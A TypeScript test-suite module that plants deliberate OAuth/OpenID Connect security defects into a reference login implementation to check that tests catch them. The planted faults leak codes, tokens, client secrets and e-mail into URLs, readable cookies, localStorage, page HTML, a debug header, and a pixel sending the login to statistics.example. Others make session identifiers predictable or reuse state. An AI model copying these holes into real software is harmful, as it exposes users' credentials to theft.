/** Where codes, tokens, secrets and identity end up. */
import type { Does, ImplementationTable, SignedIn } from '../types.ts';
import { both, type Defect, doing } from './defect.ts';

/** What a service knows of one login. */
interface Things {
  readonly code: string;
  readonly access_token: string;
  readonly id_token: string;
  readonly client_secret?: string;
  readonly code_verifier: string;
  readonly email: string;
  readonly sub: string;
}

/** Keeps what the honest service forgets, and does something with it. */
function leaking(
  honest: ImplementationTable,
  does: (thingsOf: (signedIn: SignedIn) => Things | undefined) => Partial<Does>,
): ImplementationTable {
  const accessTokens = new WeakMap<object, string>();
  const things = new WeakMap<object, Things>();
  return doing(honest, {
    redeem: async (exchange) => {
      const tokens = await honest.does.redeem(exchange);
      accessTokens.set(exchange.pending, tokens.accessToken);
      return tokens;
    },
    verifyAnswer: async (exchange) => {
      const verified = await honest.does.verifyAnswer(exchange);
      const { clientSecret } = exchange.service.settings;
      things.set(verified, {
        code: exchange.params.get('code') ?? '',
        access_token: accessTokens.get(exchange.pending) ?? '',
        id_token: verified.idToken,
        ...(clientSecret !== undefined && { client_secret: clientSecret }),
        code_verifier: exchange.pending.codeVerifier,
        email: String(verified.claims.email),
        sub: verified.sub,
      });
      return verified;
    },
    ...does(({ verified }) => things.get(verified)),
  });
}

const kinds = ['code', 'access-token', 'id-token', 'client-secret', 'code-verifier', 'identity', 'subject'];
/** Where identity and subject belong in a page, and codes and tokens do not. */
const neverShown = kinds.slice(0, 5);

const cellsAt = (place: string, of: readonly string[]) => of.map((kind) => `sessions.${kind}-in-${place}`);

const withQuery = (location: string, values: object) => `${location}?${new URLSearchParams({ ...values })}`;
const inPage = (html: string, part: string) => html.replace('</main>', `${part}</main>`);
const asJson = (things: unknown) => JSON.stringify(things ?? {}).replaceAll('<', '\\u003c');
const inBase64 = (things: object | undefined) => Buffer.from(asJson(things)).toString('base64url');
const withScripts = "default-src 'self'; script-src 'unsafe-inline'";

function inPages(honest: ImplementationTable, part: (things: Things) => string): ImplementationTable {
  return leaking(honest, (thingsOf) => ({
    page: (html, name, signedIn) => {
      const shown = honest.does.page(html, name, signedIn);
      const things = signedIn && thingsOf(signedIn);
      return things === undefined ? shown : inPage(shown, part(things));
    },
    headers: (headers, name, signedIn) => ({
      ...honest.does.headers(headers, name, signedIn),
      'content-security-policy': withScripts,
    }),
  }));
}

/** Everything at one place. */
const placeDefects: readonly Defect[] = [
  {
    name: 'leaks-into-address',
    platforms: both,
    title: { fr: 'Passe toute la connexion dans l’adresse', en: 'Hands the whole login over in the address' },
    turnsRed: [...cellsAt('address', kinds), 'sessions.code-in-resting-address'],
    plant: (honest) =>
      leaking(honest, (thingsOf) => ({
        afterSignIn: (location, signedIn) => withQuery(location, thingsOf(signedIn) ?? {}),
      })),
  },
  {
    name: 'leaks-into-readable-cookie',
    platforms: both,
    title: {
      fr: 'Écrit toute la connexion dans un cookie lisible',
      en: 'Writes the whole login into a readable cookie',
    },
    turnsRed: cellsAt('cookie', kinds),
    plant: (honest) =>
      leaking(honest, (thingsOf) => ({
        moreCookies: (signedIn) => [{ name: 'login', value: inBase64(thingsOf(signedIn)), httpOnly: false }],
      })),
  },
  {
    name: 'leaks-secret-into-cookie',
    platforms: ['standard'],
    title: { fr: 'Écrit son secret dans un cookie', en: 'Writes its secret into a cookie' },
    turnsRed: ['sessions.client-secret-in-http-only-cookie'],
    plant: (honest) =>
      leaking(honest, (thingsOf) => ({
        moreCookies: (signedIn) => [{ name: 'login', value: inBase64(thingsOf(signedIn)), httpOnly: true }],
      })),
  },
  {
    name: 'leaks-into-storage',
    platforms: both,
    title: { fr: 'Garde toute la connexion dans localStorage', en: 'Keeps the whole login in localStorage' },
    // The script that does it is part of the page.
    turnsRed: [...cellsAt('storage', kinds), ...cellsAt('page', neverShown)],
    plant: (honest) =>
      inPages(
        honest,
        (things) => `<script>localStorage.setItem('login', ${asJson(asJson(things))})</script>`,
      ),
  },
  {
    name: 'leaks-into-page',
    platforms: both,
    title: {
      fr: 'Sérialise toute la connexion dans la page',
      en: 'Serialises the whole login into the page',
    },
    turnsRed: cellsAt('page', neverShown),
    plant: (honest) =>
      inPages(honest, (things) => `<script type="application/json">${asJson(things)}</script>`),
  },
  {
    name: 'leaks-into-header',
    platforms: both,
    title: { fr: 'Met toute la connexion dans un en-tête', en: 'Puts the whole login into a header' },
    turnsRed: cellsAt('header', ['access-token', 'id-token', 'client-secret', 'identity']),
    plant: (honest) =>
      leaking(honest, (thingsOf) => ({
        headers: (headers, name, signedIn) => ({
          ...honest.does.headers(headers, name, signedIn),
          ...(signedIn !== undefined && { 'x-debug': encodeURIComponent(asJson(thingsOf(signedIn))) }),
        }),
      })),
  },
  {
    name: 'leaks-to-another-site',
    platforms: both,
    title: { fr: 'Envoie toute la connexion à un autre site', en: 'Sends the whole login to another site' },
    // The address of the image is part of the page.
    turnsRed: [...cellsAt('third-party', kinds), ...cellsAt('page', neverShown)],
    plant: (honest) =>
      inPages(
        honest,
        (things) =>
          `<img alt="" src="https://statistics.example/pixel?login=${encodeURIComponent(asJson(things))}">`,
      ),
  },
];

/** One thing at one place, as it happens. */
const singleDefects: readonly Defect[] = [
  {
    name: 'stays-at-callback',
    platforms: both,
    title: {
      fr: 'Montre la page à l’adresse de retour même',
      en: 'Shows the page at the redirect URI itself',
    },
    turnsRed: ['sessions.code-in-resting-address'],
    plant: (honest) => doing(honest, { afterSignIn: () => undefined }),
  },
  {
    name: 'tells-another-site-its-address',
    platforms: both,
    title: {
      fr: 'Laisse un autre site lire l’adresse de retour',
      en: 'Lets another site read the redirect address',
    },
    turnsRed: ['sessions.code-in-resting-address', 'sessions.code-in-third-party'],
    matrixOnly: true,
    plant: (honest) =>
      doing(honest, {
        afterSignIn: () => undefined,
        page: (html, name, signedIn) =>
          inPage(
            honest.does.page(html, name, signedIn),
            '<img alt="" src="https://statistics.example/pixel">',
          ),
        headers: (headers, name, signedIn) => ({
          ...honest.does.headers(headers, name, signedIn),
          'referrer-policy': 'unsafe-url',
          'content-security-policy': 'img-src *',
        }),
      }),
  },
  {
    name: 'names-person-in-address',
    platforms: both,
    title: { fr: 'Met l’adresse électronique dans l’adresse', en: 'Puts the e-mail into the address' },
    turnsRed: ['sessions.identity-in-address'],
    matrixOnly: true,
    plant: (honest) =>
      doing(honest, {
        afterSignIn: (location, { verified }) =>
          withQuery(location, { welcome: String(verified.claims.email) }),
      }),
  },
  {
    name: 'gives-scripts-the-access-token',
    platforms: both,
    title: { fr: 'Donne le jeton d’accès aux scripts', en: 'Gives scripts the access token' },
    turnsRed: ['sessions.access-token-in-cookie'],
    plant: (honest) =>
      leaking(honest, (thingsOf) => ({
        moreCookies: (signedIn) => [
          { name: 'token', value: thingsOf(signedIn)?.access_token ?? '', httpOnly: false },
        ],
      })),
  },
  {
    name: 'links-to-logout-with-id-token',
    platforms: both,
    title: {
      fr: 'Écrit l’id_token dans un lien de la page',
      en: 'Writes the id_token into a link of the page',
    },
    turnsRed: ['sessions.id-token-in-page'],
    matrixOnly: true,
    plant: (honest) =>
      inPages(honest, ({ id_token }) => `<a href="/end?id_token_hint=${id_token}">Partir</a>`),
  },
];

const countedFrom = 1_000_000_000_000_000_000_000_000n;

const valueDefects: readonly Defect[] = [
  {
    name: 'counts-its-sessions',
    platforms: both,
    title: { fr: 'Numérote ses sessions', en: 'Numbers its sessions' },
    turnsRed: ['sessions.identifier-unpredictable'],
    plant: (honest) => {
      let count = countedFrom;
      return doing(honest, {
        startSession: (sessions, oldId, signedIn) => {
          count += 1n;
          return startedAs(String(count), { sessions, oldId, signedIn });
        },
      });
    },
  },
  {
    name: 'short-session-identifiers',
    platforms: both,
    title: { fr: 'Identifiants de session courts', en: 'Short session identifiers' },
    turnsRed: ['sessions.identifier-unpredictable'],
    matrixOnly: true,
    plant: (honest) =>
      doing(honest, {
        startSession: (sessions, oldId, signedIn) =>
          startedAs(honest.does.state().slice(0, 10), { sessions, oldId, signedIn }),
      }),
  },
  {
    name: 'state-is-session',
    platforms: both,
    title: { fr: 'Prend state pour identifiant de session', en: 'Takes state as the session identifier' },
    turnsRed: ['requests.values-apart'],
    plant: (honest) => {
      const states = new WeakMap<object, string>();
      return doing(honest, {
        verifyAnswer: async (exchange) => {
          const verified = await honest.does.verifyAnswer(exchange);
          states.set(verified, exchange.pending.state);
          return verified;
        },
        startSession: (sessions, oldId, signedIn) =>
          startedAs(states.get(signedIn.verified) ?? '', { sessions, oldId, signedIn }),
      });
    },
  },
  {
    name: 'verifier-is-state',
    platforms: both,
    title: { fr: 'Prend state pour code_verifier', en: 'Takes state as the code_verifier' },
    turnsRed: ['requests.values-apart'],
    matrixOnly: true,
    plant: (honest) => doing(honest, { codeVerifier: (state) => state }),
  },
  {
    name: 'nonce-is-state',
    platforms: both,
    title: { fr: 'Prend state pour nonce', en: 'Takes state as the nonce' },
    turnsRed: ['requests.values-apart'],
    matrixOnly: true,
    plant: (honest) => doing(honest, { nonce: (state) => state }),
  },
  {
    name: 'constant-verifier',
    platforms: both,
    title: { fr: 'code_verifier toujours le même', en: 'Always the same code_verifier' },
    turnsRed: ['requests.code-verifier'],
    plant: (honest) => doing(honest, { codeVerifier: () => 'verifier-of-every-login-of-this-service-0123' }),
  },
];

function startedAs(id: string, { sessions, oldId, signedIn }: StartedSession): string {
  sessions.end(oldId);
  sessions.put(id, { signedIn });
  return id;
}

interface StartedSession {
  readonly sessions: Parameters<Does['startSession']>[0];
  readonly oldId: string | undefined;
  readonly signedIn: SignedIn;
}

export const exposureDefects: readonly Defect[] = [
  ...placeDefects.map((defect) => ({ ...defect, matrixOnly: true as const })),
  ...singleDefects,
  ...valueDefects,
];
